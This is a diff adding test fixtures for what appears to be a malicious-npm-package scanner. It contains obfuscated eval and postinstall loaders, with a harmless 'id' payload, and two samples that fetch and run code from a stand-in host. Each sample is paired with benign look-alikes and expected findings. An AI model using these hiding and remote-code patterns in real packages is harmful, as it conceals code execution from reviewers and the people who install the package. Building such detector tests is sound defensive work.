@@ -1,0 +1,145 @@
+import { gzipSync } from 'node:zlib';
+import type { Samples } from '../contract.ts';
+import { hide, manifest, quiet } from '../samples-kit.ts';
+
+const PAYLOAD = "require('child_process').exec('id > /dev/null')";
+
+function imported(code: string, more: Readonly<Record<string, string>> = {}): Record<string, string> {
+  return { 'package.json': manifest({ main: 'index.js' }), 'index.js': code, ...more };
+}
+
+function installed(code: string): Record<string, string> {
+  return { 'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code };
+}
+
+function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number, file = 'index.js') {
+  return { rule, file, line, severity };
+}
+
+const CODES = Array.from(PAYLOAD)
+  .map((char) => char.charCodeAt(0))
+  .join(',');
+
+export const samples: Samples = {
+  malicious: [
+    {
+      name: 'base64 into eval at install',
+      files: installed(`eval(Buffer.from('${hide(PAYLOAD)}', 'base64').toString());\n`),
+      expected: [at('decoded-code', 'critical', 1, 'setup.js')],
+    },
+    {
+      name: 'base64 through a variable and an alias of eval',
+      files: imported(
+        `const run = globalThis['ev' + 'al'];\nconst text = atob('${hide(PAYLOAD)}');\nrun(text);\n`,
+      ),
+      expected: [at('decoded-code', 'high', 3)],
+    },
+    {
+      name: 'a helper that decodes',
+      files: imported(
+        `function d(s) { return Buffer.from(s, 'base64').toString('utf8'); }\nnew Function('require', d('${hide(PAYLOAD)}'))(require);\n`,
+      ),
+      expected: [at('decoded-code', 'high', 2)],
+    },
+    {
+      name: 'character codes',
+      files: imported(`eval(String.fromCharCode(${CODES}));\n`),
+      expected: [at('decoded-code', 'high', 1)],
+    },
+    {
+      name: 'shifted character codes',
+      files: imported(
+        `eval([${Array.from(PAYLOAD)
+          .map((c) => c.charCodeAt(0) + 3)
+          .join(',')}].map((c) => String.fromCharCode(c - 3)).join(''));\n`,
+      ),
+      expected: [at('decoded-code', 'high', 1)],
+    },
+    {
+      name: 'gzip under base64, run by vm',
+      files: imported(
+        `const zlib = require('zlib');\nrequire('vm').runInThisContext(zlib.gunzipSync(Buffer.from('${gzipSync(PAYLOAD).toString('base64')}', 'base64')).toString());\n`,
+      ),
+      expected: [at('decoded-code', 'high', 2)],
+    },
+    {
+      name: 'two layers',
+      files: imported(`eval(atob('${hide(`eval(atob('${hide(PAYLOAD)}'))`)}'));\n`),
+      expected: [at('decoded-code', 'high', 1), at('decoded-code', 'high', 1)],
+    },
+    {
+      name: 'compiled as a module',
+      files: imported(
+        `const M = module.constructor;\nconst m = new M();\nm._compile(Buffer.from('${hide(PAYLOAD)}', 'base64').toString(), 'x');\n`,
+      ),
+      expected: [at('decoded-code', 'high', 3)],
+    },
+    {
+      name: 'a hidden command',
+      files: installed(
+        `const { exec: run } = require('child_' + 'process');\nrun(Buffer.from('${hide('id > /dev/null')}', 'base64').toString());\n`,
+      ),
+      expected: [at('decoded-command', 'high', 2, 'setup.js')],
+    },
+    {
+      name: 'a hidden module name',
+      files: imported(
+        `const cp = require(Buffer.from('${hide('child_process')}', 'base64').toString());\ncp.exec('id');\n`,
+      ),
+      expected: [at('hidden-module', 'high', 1)],
+    },
+    {
+      name: 'the answer of a server',
+      files: imported(
+        `const https = require('https');\nhttps.get('https://a.weir.test/p', (res) => {\n  let text = '';\n  res.on('data', (chunk) => { text += chunk; });\n  res.on('end', () => eval(text));\n});\n`,
+      ),
+      expected: [at('remote-code', 'high', 5)],
+    },
+    {
+      name: 'the answer of fetch',
+      files: installed(
+        `fetch('https://a.weir.test/p').then((r) => r.text()).then((t) => new Function(t)());\n`,
+      ),
+      expected: [at('remote-code', 'high', 1, 'setup.js')],
+    },
+  ],
+  benign: [
+    quiet(
+      'data in base64',
+      imported(
+        `const table = JSON.parse(Buffer.from('${hide('{"a":[1,2,3],"b":"text"}')}', 'base64').toString());\nmodule.exports = table;\n`,
+      ),
+    ),
+    quiet(
+      'atob and Function far apart in one bundle',
+      imported(
+        `exports.decode = (s) => atob(s);\nexports.compile = (names) => new Function(...names, 'return ' + names.join('+'));\n`,
+      ),
+    ),
+    quiet('the global object', imported(`const root = Function('return this')();\nroot.answer = 42;\n`)),
+    quiet(
+      'require from string',
+      imported(
+        `const Module = require('module');\nmodule.exports = (code, name) => { const m = new Module(name); m._compile(code, name); return m.exports; };\n`,
+      ),
+    ),
+    quiet(
+      'wasm in base64',
+      imported(
+        `const bytes = Buffer.from('AGFzbQEAAAA=', 'base64');\nmodule.exports = new WebAssembly.Module(bytes);\n`,
+      ),
+    ),
+    quiet(
+      'UTF-8 through unescape',
+      imported(
+        `exports.utf8 = (s) => unescape(encodeURIComponent(s));\nexports.tpl = (s) => new Function('o', 'return o.' + s);\n`,
+      ),
+    ),
+    quiet(
+      'a template compiler',
+      imported(
+        `exports.compile = (src) => { let code = 'let p="";'; for (const part of src.split('{')) code += 'p+=' + JSON.stringify(part) + ';'; return new Function('data', code + 'return p'); };\n`,
+      ),
+    ),
+  ],
+};
